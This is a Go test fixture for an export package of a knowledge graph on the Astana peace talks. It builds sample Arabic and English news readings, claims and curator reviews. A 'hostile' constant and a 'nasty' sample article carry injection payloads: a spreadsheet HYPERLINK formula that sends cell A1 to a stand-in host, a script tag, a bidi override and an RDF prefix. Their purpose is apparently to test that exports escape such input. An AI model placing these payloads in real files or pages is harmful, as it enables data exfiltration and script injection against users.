package export_test

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"peacetalks/graph"
	"peacetalks/graph/edtf"
)

// vocabulary labels some of what the sample names.
var vocabulary = graph.Vocabulary{Version: "words-1", Terms: map[graph.ID]graph.Term{
	"process:astana":         {Labels: map[string]string{"en": "Astana", "ar": "أستانة", "ru": "Астана"}},
	"party:russia":           {Kind: "state", Labels: map[string]string{"en": "Russia", "ar": "روسيا"}},
	"party:iran":             {Kind: "state", Labels: map[string]string{"en": "Iran", "ar": "إيران"}},
	"party:kazakhstan":       {Kind: "state", Labels: map[string]string{"en": "Kazakhstan", "ar": "كازاخستان"}},
	"party:un":               {Kind: "organisation", Labels: map[string]string{"en": "United Nations"}},
	"party:syria-government": {Kind: "government", Labels: map[string]string{"en": "Syrian government", "ar": "الحكومة السورية"}},
	"place:nur-sultan": {Country: "party:kazakhstan", Labels: map[string]string{"en": "Astana"}, Names: []graph.DatedLabel{
		{Labels: map[string]string{"en": "Nur-Sultan", "ar": "نور سلطان"}, Since: "2019-03-23", Until: "2022-09-16"}, {Labels: map[string]string{"en": "Astana"}, Since: "2022-09-17"},
	}},
	"topic:ceasefire":  {Labels: map[string]string{"en": "Ceasefire", "ar": "وقف إطلاق النار"}},
	"topic:monitoring": {Labels: map[string]string{"en": "Monitoring"}, Broader: "topic:ceasefire"},
}}

// hostile is a name that would do harm where it is not escaped.
const hostile = "=HYPERLINK(\"http://x.example/?\"&A1)<script>alert(1)</script>\u202E ]]> \x01\uFFFF \\n\r\n@prefix"

// A writer makes a reading.
type writer struct {
	article graph.Article
	claims  map[graph.ID]*graph.Supported
	says    []func()
	from    int
}

func write(published, language, outlet, url, title string) *writer {
	return &writer{article: graph.Article{URL: url, Title: title, Source: outlet, Language: language, Published: edtf.MustParse(published)}, claims: map[graph.ID]*graph.Supported{}}
}

// say adds a sentence, which the claims that follow rest on.
func (w *writer) say(sentence string) *writer {
	w.from = len(w.article.Text)
	w.article.Text += sentence + "\n"
	return w
}

func (w *writer) claim(m graph.Modality, subject graph.ID, p graph.Predicate, o graph.Object) *writer {
	c := graph.Claim{Subject: subject, Predicate: p, Object: o}
	start, end := w.from, len(w.article.Text)-1
	citing := ""
	if w.article.Language == "ar" {
		citing = "TASS"
	}
	w.says = append(w.says, func() {
		s := w.claims[c.ID()]
		if s == nil {
			s = &graph.Supported{Claim: c}
			w.claims[c.ID()] = s
		}
		s.Evidence = append(s.Evidence, graph.Evidence{
			Article: w.article.ID, Spans: []graph.Span{{Start: start, End: end, Quote: w.article.Text[start:end]}},
			Rule: "test.rule", Modality: m, Citing: citing, Confidence: 0.9, Reported: w.article.Published, Basis: "as written",
		})
	})
	return w
}

func (w *writer) finish() graph.Reading {
	w.article.ID = graph.ArticleID(w.article)
	for _, f := range w.says {
		f()
	}
	r := graph.Reading{Article: w.article, Extractor: "digest"}
	for _, s := range w.claims {
		r.Claims = append(r.Claims, *s)
	}
	slices.SortFunc(r.Claims, func(a, b graph.Supported) int { return strings.Compare(string(a.Claim.ID()), string(b.Claim.ID())) })
	return r
}

func entity(id graph.ID) graph.Object         { return graph.Object{Entity: id} }
func day(s string) graph.Object               { return graph.Object{Date: edtf.MustParse(s)} }
func said(text, language string) graph.Object { return graph.Object{Text: text, Language: language} }

const (
	a14 graph.ID = "round:astana-14"
	a15 graph.ID = "round:astana-15"
)

var (
	statement = graph.HashID("statement", "lavrentyev")
	outcome   = graph.HashID("outcome", "a14")
)

// sample are articles in Arabic and English that agree, disagree and deny, and
// one of which everything is hostile.
func sample() []graph.Reading {
	opening := write("2019-12-10", "ar", "صحيفة المثال", "https://example.org/ar/1;a", "انطلاق أستانة 14").
		say("🕊 بدأت في نور سلطان يوم الثلاثاء الجولة الرابعة عشرة.").
		claim(graph.Ongoing, a14, graph.PredProcess, entity("process:astana")).
		claim(graph.Ongoing, a14, graph.PredNumber, graph.Object{Number: 14}).
		claim(graph.Ongoing, a14, graph.PredStart, day("2019-12-10")).
		claim(graph.Ongoing, a14, graph.PredVenue, entity("place:nur-sultan")).
		say("روسيا وإيران ضامنتان، والأمم المتحدة مراقبة.").
		claim(graph.Happened, a14, graph.PredGuarantor, entity("party:russia")).
		claim(graph.Happened, a14, graph.PredGuarantor, entity("party:iran")).
		claim(graph.Happened, a14, graph.PredObserver, entity("party:un")).
		claim(graph.Happened, a14, graph.PredDelegation, entity("delegation:astana-14/syria-government")).
		claim(graph.Happened, a14, graph.PredDelegation, entity("delegation:astana-14/russia")).
		say("يترأس ألكسندر لافرنتييف المبعوث الروسي الوفد.").
		claim(graph.Happened, "delegation:astana-14/russia", graph.PredHead, entity("person:alexander-lavrentyev")).
		claim(graph.Happened, "person:alexander-lavrentyev", graph.PredName, said("ألكسندر لافرنتييف", "ar")).
		claim(graph.Happened, "person:alexander-lavrentyev", graph.PredTitle, said("المبعوث الروسي", "ar"))
	closing := write("2019-12-12", "en", "The Example", "https://example.org/en/2", "Astana talks end").
		say("Astana 14 was held on December 10 and 11 in Nur-Sultan, hosted by Kazakhstan.").
		claim(graph.Happened, a14, graph.PredStart, day("2019-12-10")).
		claim(graph.Happened, a14, graph.PredEnd, day("2019-12-11")).
		claim(graph.Happened, a14, graph.PredVenue, entity("place:nur-sultan")).
		claim(graph.Happened, a14, graph.PredHost, entity("party:kazakhstan")).
		claim(graph.Happened, a14, graph.PredStatus, graph.Object{Text: "concluded"}).
		say("The ceasefire and its monitoring were on the agenda.").
		claim(graph.Happened, a14, graph.PredAgenda, entity("agenda:astana-14/ceasefire")).
		claim(graph.Happened, "agenda:astana-14/ceasefire", graph.PredText, said("the ceasefire", "en")).
		claim(graph.Happened, "agenda:astana-14/ceasefire", graph.PredSession, day("2019-12-11")).
		claim(graph.Happened, a14, graph.PredAgenda, entity("agenda:astana-14/monitoring")).
		say("Iran met Russia on Tuesday. The plenary was on Wednesday.").
		claim(graph.Happened, a14, graph.PredMeeting, entity("meeting:astana-14/iran+russia")).
		claim(graph.Happened, "meeting:astana-14/iran+russia", graph.PredDate, day("2019-12-10")).
		claim(graph.Happened, a14, graph.PredPlenary, entity("meeting:astana-14/plenary")).
		say("“We agreed on the zones,” Alexander Lavrentyev said.").
		claim(graph.Happened, a14, graph.PredStatement, entity(statement)).
		claim(graph.Happened, statement, graph.PredSpeaker, entity("person:a-lavrentyev")).
		claim(graph.Happened, statement, graph.PredText, said("We agreed on the zones", "en")).
		claim(graph.Happened, statement, graph.PredManner, graph.Object{Text: "direct"}).
		claim(graph.Happened, statement, graph.PredTopic, entity("topic:ceasefire")).
		claim(graph.Happened, "person:alexander-lavrentyev", graph.PredName, said("Alexander Lavrentyev", "en")).
		claim(graph.Happened, a14, graph.PredOutcome, entity(outcome)).
		claim(graph.Happened, outcome, graph.PredKind, graph.Object{Text: "zones-agreed"}).
		claim(graph.Happened, outcome, graph.PredText, said("agreed on the zones", "en"))
	doubting := write("2019-12-13", "en", "Other Wire", "https://example.net/3", "Who was there").
		say("Iran was no guarantor, the wire says; the round began on December 9.").
		claim(graph.Denied, a14, graph.PredGuarantor, entity("party:iran")).
		claim(graph.Happened, a14, graph.PredStart, day("2019-12-09")).
		say("Turkey did not attend, and no round is planned in Geneva.").
		claim(graph.Denied, a14, graph.PredGuarantor, entity("party:turkey")).
		claim(graph.Denied, "round:geneva-9", graph.PredProcess, entity("process:geneva")).
		say("The next round is planned for early 2020.").
		claim(graph.Planned, a15, graph.PredProcess, entity("process:astana")).
		claim(graph.Planned, a15, graph.PredNumber, graph.Object{Number: 15}).
		claim(graph.Planned, a15, graph.PredStart, day("2020-01~"))
	nasty := write("2020-01-01", "en", hostile, "https://example.org/?q=<script>", hostile).
		say("Astana 15: "+hostile+" leads.").
		claim(graph.Happened, "delegation:astana-15/evil", graph.PredHead, entity("person:o'neill")).
		claim(graph.Happened, a15, graph.PredDelegation, entity("delegation:astana-15/evil")).
		claim(graph.Happened, "person:o'neill", graph.PredName, said(hostile, "en")).
		claim(graph.Happened, "party:evil", graph.PredName, said(hostile, "")).
		claim(graph.Happened, "place:astana", graph.PredName, said("@SUM(1)", "x;y"))
	return []graph.Reading{opening.finish(), closing.finish(), doubting.finish(), nasty.finish()}
}

// sampleGraph is a graph of the sample, with what a curator decided.
func sampleGraph(t *testing.T, rs ...graph.Reading) *graph.Store {
	t.Helper()
	now := time.Date(2026, 1, 2, 3, 4, 5, 6000, time.UTC)
	s, err := graph.Open(filepath.Join(t.TempDir(), "g"), graph.Options{Extractor: "digest", Vocabulary: vocabulary, Now: func() time.Time { now = now.Add(time.Second); return now }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	if len(rs) == 0 {
		rs = sample()
	}
	if _, err := s.PutAll(t.Context(), rs); err != nil {
		t.Fatal(err)
	}
	by := graph.Reviewer{Name: "Ada", Note: "the list of delegates"}
	rejected := graph.Claim{Subject: a14, Predicate: graph.PredObserver, Object: entity("party:un")}
	if _, err := s.ReviewClaim(t.Context(), rejected.ID(), graph.Reject, by); err != nil {
		t.Fatal(err)
	}
	added := graph.Claim{Subject: a14, Predicate: graph.PredMediator, Object: entity("party:un")}
	if _, err := s.AddClaim(t.Context(), added, graph.Happened, edtf.Date{}, by); err != nil {
		t.Fatal(err)
	}
	if _, err := s.MergeEntities(t.Context(), []graph.ID{"person:a-lavrentyev"}, "person:alexander-lavrentyev", by); err != nil {
		t.Fatal(err)
	}
	return s
}
